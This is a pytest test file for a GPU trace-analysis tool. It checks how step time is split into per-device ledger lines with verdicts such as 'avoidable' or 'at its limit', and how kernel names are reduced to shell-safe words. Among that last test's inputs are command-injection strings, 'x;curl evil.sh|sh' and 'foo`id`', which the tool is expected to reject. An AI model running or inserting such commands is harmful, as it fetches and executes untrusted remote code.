"""The account: each line of the ledger of 5 % of the step and more has one verdict, and lines add up to the ledger."""

from __future__ import annotations

import pytest
from builder import TraceBuilder
from labelled.gpu_work import GEMM, a100, kernel, run, shapes

from traceq.common.kernel_names import kernel_word
from traceq.diagnosis import user_rules
from traceq.diagnosis.judge import judge_subject, load_subjects

CLAIM = """-- rule: copies
-- fix: Copy less.
-- likely: 0.5
select step, ts, dur, name, slice_id, ledger_dur * {share} as claimed, category as cause, slice_id as busy_id
from busy_piece where trace_id = $trace_id and device = $device and category = 'copy_h2d'
"""


@pytest.fixture
def lines(tmp_path):
    """The account of steps of 1,000 ns: copies of 300, of which `share` is claimed, then `work` (name -> ns) and idle time."""

    def of(share, **work):
        trace = TraceBuilder()
        for start in (0, 1000, 2000):
            trace.annotation("step", start, 20)
            trace.memcpy("h2d", start, 300, launched=(start, 1))
            at = start + 300
            for number, (name, dur) in enumerate(work.items(), 1):
                trace.kernel(name, at, dur, launched=(start + 2 * number, 1))
                at += dur
        built = trace.build(tmp_path)
        path = tmp_path / "copies.sql"
        path.write_text(CLAIM.format(share=share))
        rules = [each for each in user_rules.load_rules([path]) if each.name == "copies"] if share else []
        (subject,) = load_subjects(built._connection)
        judged = judge_subject(subject, rules)
        assert not judged.failed
        assert [each.rule for each in judged.findings] == [each.name for each in rules]
        for category, total in subject.ledger.items():
            parts = [each.dur_ns for each in judged.account if each.category == category]
            assert sum(parts) == pytest.approx(total)
        return [(each.category, each.part, round(each.dur_ns), each.verdict) for each in judged.account]

    return of


def test_what_a_finding_can_win_is_avoidable_and_the_rest_has_a_verdict_of_its_own(lines):
    """The claim is half of the copies, 150 ns; what it can win at most is bounded by the replay."""
    assert lines(0.5, gemm=600) == [
        ("compute", "gemm", 600, "cannot tell"),
        ("copy_h2d", None, 200, "cannot tell"),
        ("copy_h2d", None, 100, "avoidable"),
        ("idle_unattributed", None, 67, "cannot tell"),
    ]


def test_the_kernel_that_holds_most_is_a_line_and_the_others_are_one(lines):
    found = lines(1, my_own=400, other=100, third=100)
    assert [each for each in found if each[0] == "compute"] == [
        ("compute", "my_own", 400, "cannot tell"),
        ("compute", None, 200, "cannot tell"),
    ]


def test_kernels_of_which_none_holds_most_are_one_line(lines):
    assert lines(1, my_own=200, other=200, third=200)[0] == ("compute", None, 600, "cannot tell")


def test_lines_of_less_than_a_twentieth_need_no_verdict(lines):
    assert ("compute", None, 30, "small") in lines(1, my_own=30)


def test_without_findings_every_line_has_a_verdict(lines):
    assert {verdict for *_, dur, verdict in lines(0, gemm=600) if dur >= 50} == {"cannot tell"}


def account(trace, tmp_path):
    """The account of a trace that no rule is asked about."""
    (subject,) = load_subjects(trace.build(tmp_path)._connection)
    judged = judge_subject(subject, [])
    assert not judged.failed
    return judged.account


SQUARE = shapes([4096, 4096], [4096, 4096], dtype="c10::BFloat16")


@pytest.mark.parametrize(("dur", "near"), [(2_000_000, 630_000), (600_000, 600_000)])
def test_time_near_a_limit_is_told_from_what_is_above_it(tmp_path, dur, near):
    """137 GFLOP take 441 us at the peak, 630 at 0.7 of it: what a kernel takes above that is avoidable, the rest is not."""
    trace = TraceBuilder()
    a100(trace)
    run(trace, kernel(GEMM, dur, "aten::mm", SQUARE))
    found = {each.verdict: each for each in account(trace, tmp_path) if each.category == "compute"}
    assert found["at its limit"].dur_ns == pytest.approx(near, rel=0.01)
    assert found["at its limit"].limit == "peak of the arithmetic"
    if dur == near:
        assert set(found) == {"at its limit"}
        return
    above = found["avoidable"]
    assert above.dur_ns == pytest.approx(dur - near, rel=0.01)
    assert 0 == above.saving_low_ns < above.saving_ns < above.saving_high_ns <= above.dur_ns


def test_of_kernels_of_a_few_microseconds_a_limit_tells_nothing(tmp_path):
    trace = TraceBuilder()
    a100(trace)
    small = shapes([64, 64], [64, 64], dtype="c10::BFloat16")
    run(trace, *[kernel(GEMM, 15_000, "aten::mm", small)] * 20)
    assert {each.verdict for each in account(trace, tmp_path) if each.category == "compute"} == {"cannot tell"}


def test_kernels_that_the_host_keeps_waiting_are_not_on_the_critical_path(tmp_path):
    """The host launches a kernel each 100 us, which takes 20: faster ones would change nothing."""
    trace = TraceBuilder()
    for step in range(3):
        trace.annotation("step", 1_000_000 * step, 1_000_000)
        for place in range(10):
            at = 1_000_000 * step + 100_000 * place
            trace.op("aten::add", at, 99_000)
            trace.kernel("my_own", at + 60_000, 20_000, launched=(at + 50_000, 5_000))
    (line,) = (each for each in account(trace, tmp_path) if each.category == "compute")
    assert (line.verdict, line.limit) == ("at its limit", "critical path")
    assert line.limit_share > 0.9


def test_other_devices_have_lines_of_their_own_and_no_savings(tmp_path):
    trace = TraceBuilder()
    for start in (0, 1000, 2000):
        trace.annotation("step", start, 900)
        trace.kernel("gemm", start, 800, launched=(start, 1))
        trace.kernel("other", start + 10, 300, launched=(start + 2, 1), device=1)
    found = account(trace, tmp_path)
    assert {(each.device, each.is_critical) for each in found} == {(0, True), (1, False)}
    (line,) = (each for each in found if each.device == 1 and each.category == "compute")
    assert (round(line.dur_ns), line.verdict, line.saving_ns) == (300, "cannot tell", None)


def test_each_device_has_lines_for_its_own_work_and_for_where_the_host_was_meanwhile(tmp_path):
    """Lines of other devices by device, category and part: what the query of all of them finds must not mix."""
    trace = TraceBuilder()
    for start in (0, 1000, 2000):
        trace.annotation("step", start, 900)
        trace.kernel("gemm", start, 900, launched=(start, 1))
        trace.kernel("other", start + 10, 300, launched=(start + 2, 1), device=1)
        trace.memcpy("h2d", start + 20, 200, launched=(start + 4, 1), device=2)
        trace.kernel("third", start + 220, 500, launched=(start + 6, 1), device=2)
        trace.op("aten::slow", start + 8, 890)
    found = [
        (each.device, each.category, each.part, round(each.dur_ns)) for each in account(trace, tmp_path) if each.device
    ]
    assert found == [
        (1, "idle_launch", "aten::slow", 588),
        (1, "compute", "other", 300),
        (1, "idle_unattributed", None, 67),
        (1, "idle_launch_latency", None, 7),
        (1, "idle_python", None, 3),
        (1, "idle_launch", None, 2),
        (2, "compute", "third", 500),
        (2, "copy_h2d", None, 200),
        (2, "idle_launch", "aten::slow", 178),
        (2, "idle_unattributed", None, 67),
        (2, "idle_launch_latency", None, 15),
        (2, "idle_python", None, 4),
        (2, "idle_launch", None, 3),
    ]


@pytest.mark.parametrize(
    ("name", "word"),
    [
        (
            "void at::native::(anonymous namespace)::multi_tensor_apply_kernel<int, float>(int)",
            "multi_tensor_apply_kernel",
        ),
        ("std::enable_if<!(T7), void>::type internal::gemvx::kernel<int, 8>(int)", "kernel"),
        ("bool foo<int>()", "foo"),
        ("jacobi_kernel(float *, const float *)", "jacobi_kernel"),
        ("ampere_sgemm_128x64_tn", "ampere_sgemm_128x64_tn"),
        ("x;curl evil.sh|sh", None),
        ("foo`id`", None),
        ("[CUDA memset]", None),
        ("", None),
    ],
)
def test_tools_find_a_kernel_by_a_word_that_a_shell_takes_for_nothing_else(name, word):
    assert kernel_word(name) == word
